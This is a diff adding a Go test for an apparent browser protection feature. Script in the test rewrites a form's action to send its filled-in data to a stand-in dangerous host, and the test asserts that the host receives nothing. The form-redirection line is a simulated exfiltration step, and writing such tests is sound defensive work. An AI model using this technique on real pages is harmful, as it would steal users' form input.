@@ -74,3 +74,26 @@ func TestHeldIsNotLetGo(t *testing.T) {
 		})
 	})
 }
+
+// A host that the bundle marks dangerous is held there over https too.
+func TestHeldForADangerousHost(t *testing.T) {
+	s := setUpFirefox(t)
+	const dangerous = "forms.dangerous.example"
+	p := page(t, s.with)
+	if err := p.Open("http://forms.example.org/blank-script.html"); err != nil {
+		t.Fatal(err)
+	}
+	act := `await page.evaluate(() => { document.forms[0].action = 'https://` + dangerous + `/x'; });` + fill + `await sleep(300); await page.click('#script');`
+	if err := p.Act(act, nil); err != nil {
+		t.Fatal(err)
+	}
+	if err := p.Stopped(waitForDialog); err != nil {
+		t.Fatal(err)
+	}
+	if got := s.received(dangerous); len(got) > 0 {
+		t.Errorf("%s received %s", dangerous, list(got))
+	}
+	if err := p.Act(`await firefox.answer(page, await firefox.stopped(5_000, '#back'), '#back', firefox.shown);`, nil); err != nil {
+		t.Fatal(err)
+	}
+}
